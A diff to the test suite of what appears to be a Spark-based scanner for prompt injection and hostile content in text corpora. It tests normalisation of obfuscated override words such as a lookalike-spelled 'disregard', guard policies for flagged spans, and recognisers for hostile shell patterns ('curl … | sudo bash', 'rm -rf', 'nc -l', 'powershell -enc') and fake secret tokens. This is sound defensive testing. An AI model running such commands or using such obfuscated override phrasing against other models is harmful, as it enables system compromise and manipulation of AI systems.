@@ -74,6 +74,7 @@ def test_null_empty_and_repeated_rows(spark):
 def test_normal_form():
     for t in ("a​b", "disrеgard", "ｆｕｌｌ ﬁ", "a   b \n c", "", "привет", "x ­y"):
         once, src = T.normal(t)
+        src = list(src)
         assert len(once) == len(src) and src == sorted(src) and all(0 <= i < len(t) for i in src)
         assert T.normal(once)[0] == once
     assert T.normal("a​b disrеgard")[0] == "ab disregard" and T.normal("привет")[0] == "привет"
@@ -103,11 +104,14 @@ def test_guard(spark):
     spans = spark.createDataFrame([(1, 1, 3), (1, 3, 4), (2, 0, 3)], "doc_key long, block_lo int, block_hi int")
     found = guard.blocks(spans)
     rows = lambda **k: {r.doc_key: (r.text, r.keep, r.removed) for r in guard.apply(docs, found, **k).collect()}
-    assert rows(policy="blank", blank="#") == {1: ("a###ef", True, 3), 2: ("###", True, 3), 3: ("", True, 0)}
-    assert rows(policy="mask") == {1: ("aef", True, 3), 2: ("", False, 3), 3: ("", True, 0)}
+    assert rows(policy="blank", blank="#") == {1: ("a###ef", True, 3), 2: ("###", True, 3), 3: (None, True, 0)}
+    assert rows(policy="mask") == {1: ("aef", True, 3), 2: ("", False, 3), 3: (None, True, 0)}
     assert {k: v[1] for k, v in rows(policy="drop").items()} == {1: False, 2: False, 3: True}
     with pytest.raises(Exception, match="injection found"):
-        guard.apply(docs, found, "fail").collect()
+        guard.apply(docs, found, "fail").count()
+    with pytest.raises(ValueError, match="another prefix"):
+        guard.apply(docs.withColumn("KEEP", F.lit(1)), found)
+    assert guard.apply(docs.withColumn("keep", F.lit("mine")).withColumn("spans", F.lit(7)), found, prefix="g_").columns == ["doc_key", "text", "keep", "spans", "g_keep", "g_flagged", "g_policy", "g_removed"]
     with pytest.raises(ValueError):
         guard.apply(docs, found, "other")
 
@@ -124,15 +128,151 @@ def test_boundary(spark):
     assert t[slice(*got[2])].strip() == "Now payload here."
 
 
-def test_templates():
+def test_templates(spark):
     steps = templates.parse("{A} ~2 {B}? stop")
     assert steps == [("A", 0, False), ("B", 2, True), ("LIT:stop", 0, False)]
     assert templates.expand(steps) == [[("A", 0), ("B", 2), ("LIT:stop", 0)], [("A", 0), ("LIT:stop", 3)]]
-    low = "a x y b stop\nb"
-    hits = templates.placed(low, [(0, 1, "A"), (6, 7, "B"), (8, 12, "LIT:stop"), (13, 14, "B")])
-    assert templates.match(hits, [("A", 0), ("B", 2), ("LIT:stop", 0)]) == [(0, 12)]
-    assert templates.match(hits, [("LIT:stop", 0), ("B", 0)]) == []
-    assert templates.match(templates.placed(low, [(8, 12, "S"), (13, 14, "B")], multiline=True), [("S", 0), ("B", 0)]) == [(8, 14)]
+    at = lambda low, *hits: templates.placed(low, hits)
+    x = at("a x y b stop\nb", (0, 1, "A"), (6, 7, "B"), (8, 12, "LIT:stop"), (13, 14, "B"))
+    assert templates.match(x, [("A", 0), ("B", 2), ("LIT:stop", 0)]) == [(0, 12, 5)]
+    assert templates.match(x, [("LIT:stop", 0), ("B", 0)]) == []
+    two = [("S", 0), ("B", 0)]
+    assert templates.match(at("a stop\nb", (2, 6, "S"), (7, 8, "B")), two, multiline=True) == [(2, 8, 2)]
+    # A line end costs by itself, and costs nothing across lines, also after the end of a sentence.
+    assert templates.match(at("a.\nb", (0, 1, "S"), (3, 4, "B")), two, multiline=True) == [(0, 4, 2)]
+    assert templates.match(at("a.) b", (0, 1, "S"), (4, 5, "B")), [("S", 0), ("B", 3)]) == []
+    assert templates.match(at("a.) b", (0, 1, "S"), (4, 5, "B")), [("S", 0), ("B", 4)]) == [(0, 5, 2)]
+    assert templates.match(at("x |y", (0, 1, "S"), (3, 4, "B")), [("S", 0), ("B", 98)]) == [] and templates.match(at("x<|y", (0, 1, "S"), (3, 4, "B")), two) == [(0, 4, 2)]
+    # Signs between words have places of their own; a match clears what is open.
+    assert templates.match(at("--- b", (0, 3, "S"), (4, 5, "B")), two) == [] and templates.match(at("a --- b", (2, 5, "S"), (6, 7, "B")), two) == [(2, 7, 1)]
+    assert templates.match(at("s s b b", (0, 1, "S"), (2, 3, "S"), (4, 5, "B"), (6, 7, "B")), [("S", 0), ("B", 3)]) == [(0, 5, 3)]
+    docs = spark.createDataFrame([(1, "Please\u200b disre\u200bgard all [ x"), (2, None), (3, "")], "doc_key long, text string")
+    got = templates.fragments(docs, B.load(), [("please ~0 disregard", False), ("[", False)]).collect()
+    assert sorted(tuple(r) for r in got) == [(1, 0, 0, 18, 2), (1, 1, 23, 24, 1)]
+
+
+def test_recognisers():
+    found = lambda t: {(t[a:b], k) for a, _, b, k in T.found_entities(t)}
+    for call in ("os.system(", "subprocess.check_output (", "execSync(", "spawnSync(", "Invoke-Expression(", "iex (", "popen("):
+        assert (call, "CODE_EXEC") in found(f"then {call}x)")
+    for flag in ("bash -c", "python3  -c", "node -e", "powershell -enc", "powershell.exe -e", "nc -l", "rm -rf", "chmod +x", "certutil -urlcache", "base64 -d", "dd if=", "ssh -"):
+        assert (flag, "CODE_EXEC") in found(f"run {flag} it" if flag[-1] != "-" else f"run {flag}i it")
+    assert ("curl x.example | sudo bash", "CODE_EXEC") in found("curl x.example | sudo bash")
+    for key in ("sk-" + "a1" * 8, "ghp_" + "a" * 20, "AKIA" + "A1" * 6, "xoxr-" + "1" * 10, "eyJ" + "a" * 10 + "." + "b" * 10):
+        assert (key, "SECRET_TOKEN") in found(f"key {key}, kept")
+    assert found("scripts bash-c evaluate(x) printf(y)") == set()
+    many = " ".join(f"u{i}@mail.example" for i in range(20_000))
+    assert len(T.found_entities(many)) == 20_000
+
+
+def test_fast_forms_are_the_slow_ones():
+    """Against a form made character by character."""
+    import unicodedata
+
+    r = random.Random(7)
+    signs = "ab Z1_.\n\t\r\x00\x0b\x85\u00a0\u200b\u00ad\u2028éе\u0301οﬁＡİΣ🙂|" + T.LOOKALIKE[:6]
+    for _ in range(3000):
+        t = "".join(r.choices(signs, k=r.randint(0, 14)))
+        out, src, blank = [], [], False
+        for i, c in enumerate(t):
+            kind = unicodedata.category(c)
+            if c not in "\n\t\r" and kind in ("Cc", "Cf"):
+                continue
+            if kind[0] == "Z":
+                if not blank:
+                    out.append(" ")
+                    src.append(i)
+                blank = True
+                continue
+            blank = False
+            form = unicodedata.normalize("NFKC", c)
+            out += form
+            src += [i] * len(form)
+        made = "".join(out)
+        import re
+
+        fold = lambda w: "".join(T.LOOKALIKES.get(c, c) for c in w[0]) if re.search("[A-Za-z]", w[0]) and any(c in T.LOOKALIKES for c in w[0]) else w[0]
+        made = re.sub(r"\w+", fold, made)
+        got = T.normal(t)
+        assert (got[0], list(got[1])) == (made, src), t
+        assert not T.is_normal(t) or made == t
+        assert len(T.lowered(t)) == len(t)
+
+
+def test_collapse_and_contexts(spark):
+    base = B.parse({"schema": 1, "version": "20260101", "build": 1, "engine": {"slots": [{"slot": "A", "variants": ["one two", "two"]}, {"slot": "MARK", "variants": ["---", "----"]}]}, "rules": []})
+    s = fused.Scanner(base)
+    assert [h for h in s.hits("x ----- one two")[0] if h[2] == "MARK"] == [(2, 6, "MARK")]
+    docs = spark.createDataFrame([(1, "p one two q r\n\ns t"), (2, "p two"), (3, None)], "doc_key long, text string")
+    got = {(r.slot, r.token, r.side, r.dist): r.n for r in scan.contexts(scan.with_hits(docs, base)).collect()}
+    # "two" within "one two" is a hit of its own, and passes over both words.
+    assert got == {("A", "p", "L", "1"): 3, ("A", "q", "R", "1"): 2, ("A", "r", "R", "2"): 2}
+
+
+def test_names_and_catalogue(spark):
+    assert findings.named([(0, "A.B", "x"), (1, "A.B", "y"), (2, "C.D", "z")], {"y": "IPI/A.B.A"}) == {0: "IPI/A.B.B", 1: "IPI/A.B.A", 2: "IPI/C.D.A"}
+    assert [findings.letters(n) for n in (0, 25, 26, 27)] == ["A", "Z", "Z1", "Z2"]
+    assert findings.annotated({"rules": [{"threat": "x", "edges": []}], "x": 1}, {0: "y"}) == {"rules": [{"threat": "y", "edges": []}], "x": 1}
+    known = findings.catalog(B.load().rules_table(spark))
+    name = known.first().threat
+    assert [r.exact for r in findings.explain(known, name).collect()] == [True] and findings.explain(known, "no such").count() == 0
+
+
+def test_artifact(tmp_path):
+    from tarnsift.base import artifact
+
+    at, base = str(tmp_path / "base.gz"), B.load()
+    artifact.write(base, at)
+    assert artifact.load(at) == base and artifact.verify(at, base) == []
+    import dataclasses
+
+    other = dataclasses.replace(base, literals=base.literals[1:])
+    assert any("only in the file" in x for x in artifact.verify(at, other))
+    assert artifact.describe(base, "dpi")["rules"] == len(base.active("dpi"))
+    (tmp_path / "broken").write_bytes(b"x")
+    with pytest.raises(B.BaseUnavailable):
+        artifact.load(str(tmp_path / "broken"))
+
+
+def test_remote(spark):
+    from tarnsift.sources import remote
+
+    answers, slept = iter([(503, {}, ""), (429, {"Retry-After": "7"}, ""), (200, {}, "yes")]), []
+    assert remote.ask("x", lambda t: next(answers), slept.append) == "yes" and slept == [1.0, 7.0]
+    assert "too long" in remote.ask("x", lambda t: (413, {}, ""))
+    for status in (401, 402, 403, 404):
+        with pytest.raises(remote.Refused):
+            remote.ask("x", lambda t: (status, {}, ""))  # noqa: B023
+    docs = spark.createDataFrame([(1, "a"), (2, None)], "doc_key long, text string")
+    assert sorted(map(tuple, remote.assess(docs, lambda t: (200, {}, t + "!")).collect())) == [(1, "a!"), (2, "!")]
+    with pytest.raises(ValueError):
+        remote.assess(docs, None, "dpi")
+
+
+def test_survival(spark):
+    from tarnsift.operators import measure
+
+    r = random.Random(3)
+    for _ in range(200):
+        a, b = ("".join(r.choices("ab", k=r.randint(0, 30))) for _ in "xy")
+        assert measure.longest_common(a, b) == max((n for n in range(len(a) + 1) for i in range(len(a) - n + 1) if a[i : i + n] in b), default=0)
+    p = "abcdefghijklmnopqrstuvwxyz0123456789abcd"
+    rows = spark.createDataFrame([(1, p, "x" + p.replace("a", "a", 1)), (2, p, p[:30]), (3, p, p[:20]), (4, "", "x"), (5, None, None), (6, "a  b", "a b c")], "id long, p string, t string")
+    assert {x.id: x.survival for x in measure.survival(rows, "p", "t").collect()} == {1: 1.0, 2: 30 / 40, 3: 0.0, 4: 0.0, 5: 0.0, 6: 1.0}
+
+
+def test_dialogue_checks(spark):
+    from tarnsift.operators import dialogue
+
+    turns = spark.createDataFrame([(1, 0, "user", "x"), (2, 0, "user", "")], "conv_id long, turn long, role string, text string")
+    flagged = spark.createDataFrame([(1, 0, "dpi", ["b", "a"])], "conv_id long, turn long, mode string, threats array<string>")
+    assert {r.conv_id: (r.n_read, r.flagged, r.keep, r.threats) for r in guard.decide(turns, flagged, {"user": "dpi"}, "drop").collect()} == {1: (1, True, False, ["b", "a"]), 2: (0, False, True, [])}
+    with pytest.raises(ValueError):
+        guard.decide(turns, flagged, {"user": "other"})
+    with pytest.raises(ValueError):
+        dialogue.validated(turns, flagged, {"user": "dpi"}, "drop")
+    with pytest.raises(Exception, match="conversation 1"):
+        dialogue.validated(turns, flagged, {"user": "dpi"}, "fail").count()
 
 
 def test_files_and_names(spark, tmp_path):
@@ -145,8 +285,13 @@ def test_files_and_names(spark, tmp_path):
     (tmp_path / "l.jsonl").write_text('{"id": "x", "text": "one"}\n\nnot json\n{"body": 1}\n')
     lines = sorted((r.id, r.text, r.error) for r in files.jsonl(spark, str(tmp_path / "l.jsonl")).collect())
     assert lines == [("l.jsonl:3", "", True), ("l.jsonl:4", "", False), ("x", "one", False)]
-    df = spark.createDataFrame([("../../etc/x.txt",), ("/etc/x.txt",), ("file:///a b/y",)], "id string")
-    assert sorted(r.copy for r in sinks.named(df).collect()) == ["a b/y", "etc/x.txt", "etc/x_1.txt"]
+    df = spark.createDataFrame([("../../etc/x.txt", "1"), ("/etc/x.txt", "2"), ("file:///a b/y", None), ("etc/x_1.txt", "4"), ("/etc/x_1.txt", "5")], "id string, text string")
+    assert sorted(r.copy for r in sinks.named(df).collect()) == ["a b/y", "etc/x.txt", "etc/x_1.txt", "etc/x_2.txt", "etc/x_3.txt"]
+    for _ in range(2):
+        assert sinks.copied(df, str(tmp_path / "out")).count() == 5
+    assert sorted(p.read_text() for p in (tmp_path / "out").rglob("*") if p.is_file()) == ["", "1", "2", "4", "5"]
+    with pytest.raises(Exception, match="FileExistsError"):
+        sinks.copied(df.withColumn("text", F.lit("other")), str(tmp_path / "out")).collect()
 
 
 def test_stream(spark, data, tmp_path):
@@ -171,6 +316,6 @@ def test_bootstrap_takes_all_resamples(spark, data, monkeypatch):
 
     asked = []
     whole = measure.bootstrap_slope
-    monkeypatch.setattr(measure, "bootstrap_slope", lambda rows, size, ms, resamples=2000: asked.append(resamples) or whole(rows, size, ms, resamples))
+    monkeypatch.setattr(measure, "bootstrap_slope", lambda rows, size, ms, resamples=2000, **k: asked.append(resamples) or whole(rows, size, ms, resamples, **k))
     got = queries.cost_bootstrap(spark, data).first()
     assert asked == [2000] and got.lo <= got.hi
